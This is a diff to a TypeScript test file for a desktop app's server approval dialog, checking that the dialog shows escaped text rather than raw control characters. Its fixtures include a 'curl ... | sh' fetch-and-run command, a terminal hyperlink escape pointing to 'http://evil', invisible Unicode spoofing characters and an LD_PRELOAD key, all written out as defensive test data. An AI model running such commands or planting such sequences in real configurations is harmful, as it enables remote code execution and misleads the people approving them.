@@ -8,7 +8,7 @@ import ToolPanel from "./ToolPanel.svelte";
 import ToolDetail from "./ToolDetail.svelte";
 import SettingsPane from "./SettingsPane.svelte";
 import { manyTools, noHints, type FullTool } from "../lib/backend/mock";
-import type { ServerStatus, StatusSnapshot } from "../lib/bindings";
+import type { ApprovalRequest, ServerStatus, StatusSnapshot } from "../lib/bindings";
 import { $, render, settle, setup, type } from "../test/render";
 
 const cleanups: (() => void)[] = [];
@@ -95,12 +95,19 @@ describe("status bar", () => {
   });
 });
 
+/** A request as the core sends it for plain text, where `shown` is the same text. */
+function request(r: Omit<ApprovalRequest, "shown" | "oauth"> & { oauth?: string | null }): ApprovalRequest {
+  const oauth = r.oauth ?? null;
+  const command = r.command === null ? null : [r.command, ...r.args].join(" ");
+  return { ...r, oauth, shown: { name: r.name, command, url: r.url, cwd: r.cwd, envKeys: r.envKeys, headerKeys: r.headerKeys, oauth } };
+}
+
 describe("approval", () => {
   test("servers awaiting approval open the dialog; approving calls the backend", async () => {
     const { app, backend } = setup();
     backend.status = { revision: 0, servers: [{ ...connected("demo", 0), state: { status: "awaiting-approval" } }], configError: null };
     backend.approvalsPending = [
-      { name: "demo", transport: "stdio", command: "harness9", args: ["mcp", "serve"], url: null, cwd: "./srv", envKeys: ["TOKEN"], headerKeys: [], fingerprint: "fp1" },
+      request({ name: "demo", transport: "stdio", command: "harness9", args: ["mcp", "serve"], url: null, cwd: "./srv", envKeys: ["TOKEN"], headerKeys: [], fingerprint: "fp1" }),
     ];
     const r = render(App, { backend, app }, app);
     cleanups.push(r.destroy);
@@ -118,13 +125,13 @@ describe("approval", () => {
   test("an entry that changed while the dialog was open is shown again, refreshed", async () => {
     const { app, backend } = setup();
     backend.status = { revision: 0, servers: [{ ...connected("demo", 0), state: { status: "awaiting-approval" } }], configError: null };
-    const shown = { name: "demo", transport: "stdio", command: "old-cmd", args: [], url: null, cwd: null, envKeys: [], headerKeys: [], fingerprint: "fp1" };
+    const shown = request({ name: "demo", transport: "stdio", command: "old-cmd", args: [], url: null, cwd: null, envKeys: [], headerKeys: [], fingerprint: "fp1" });
     backend.approvalsPending = [shown];
     const r = render(App, { backend, app }, app);
     cleanups.push(r.destroy);
     await settle();
     // The file changes meanwhile: the core refuses the old fingerprint.
-    backend.approvalsPending = [{ ...shown, command: "new-cmd", envKeys: ["LD_PRELOAD"], headerKeys: ["X-Api-Key"], fingerprint: "fp2" }];
+    backend.approvalsPending = [request({ ...shown, command: "new-cmd", envKeys: ["LD_PRELOAD"], headerKeys: ["X-Api-Key"], fingerprint: "fp2" })];
     backend.approveOutcome = { approved: [], stale: ["demo"] };
     $(r.target, "approve-all").click();
     await settle();
@@ -141,7 +148,7 @@ describe("approval", () => {
   test("Esc dismisses the dialog until a new server asks", async () => {
     const { app, backend } = setup();
     backend.status = { revision: 0, servers: [{ ...connected("demo", 0), state: { status: "awaiting-approval" } }], configError: null };
-    backend.approvalsPending = [{ name: "demo", transport: "stdio", command: "x", args: [], url: null, cwd: null, envKeys: [], headerKeys: [], fingerprint: "fp" }];
+    backend.approvalsPending = [request({ name: "demo", transport: "stdio", command: "x", args: [], url: null, cwd: null, envKeys: [], headerKeys: [], fingerprint: "fp" })];
     const r = render(App, { backend, app }, app);
     cleanups.push(r.destroy);
     await settle();
@@ -151,6 +158,49 @@ describe("approval", () => {
     backend.pushStatus(backend.status);
     await settle();
     expect(r.target.querySelector("[data-testid=approval-dialog]")).toBeNull();
+  });
+
+  test("the dialog shows the core's escaped text, the OAuth block and every header name, never raw controls", async () => {
+    const { app, backend } = setup();
+    backend.status = { revision: 0, servers: [{ ...connected("demo", 0), state: { status: "awaiting-approval" } }], configError: null };
+    // As the core sends it: raw fields as written, `shown` rendered by its terminal renderer.
+    backend.approvalsPending = [
+      {
+        name: "demo\u202e",
+        transport: "stdio",
+        command: "sh\x1b]8;;http://evil\x07",
+        args: ["-c", "TOKEN=1; curl https://x.test | sh\r\x1b[2K"],
+        url: null,
+        cwd: "./a\u200bb",
+        envKeys: ["K\u{e0041}"],
+        headerKeys: [],
+        oauth: null,
+        shown: {
+          name: "demo\\u{202e}",
+          command: "'sh\\x1b]8;;http://evil\\x07' -c 'TOKEN=1; curl https://x.test | sh\\x0d\\x1b[2K'",
+          url: null,
+          cwd: "./a\\u{200b}b",
+          envKeys: ["K\\u{e0041}"],
+          headerKeys: [],
+          oauth: null,
+        },
+        fingerprint: "fp1",
+      },
+      request({ name: "web", transport: "http", command: null, args: [], url: "https://h.test/mcp?key=••••••", cwd: null, envKeys: [], headerKeys: ["Authorization", "X-Trace"], oauth: "client ID cid, client secret ••••••", fingerprint: "fp2" }),
+    ];
+    const r = render(App, { backend, app }, app);
+    cleanups.push(r.destroy);
+    await settle();
+    const text = $(r.target, "approval-dialog").textContent ?? "";
+    expect(text).toContain("'sh\\x1b]8;;http://evil\\x07' -c 'TOKEN=1; curl https://x.test | sh\\x0d\\x1b[2K'");
+    expect(text).toContain("demo\\u{202e}");
+    expect(text).toContain("./a\\u{200b}b");
+    expect(text).toContain("with variables K\\u{e0041}");
+    expect(text).toContain("with headers Authorization, X-Trace");
+    expect(text).toContain("signs in with client ID cid, client secret ••••••");
+    expect(text).toContain("https://h.test/mcp?key=••••••");
+    expect(text).not.toMatch(/[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u200b-\u200f\u202a-\u202e\u2066-\u2069]/);
+    expect(text).not.toMatch(/\u{e0041}/u);
   });
 });
 
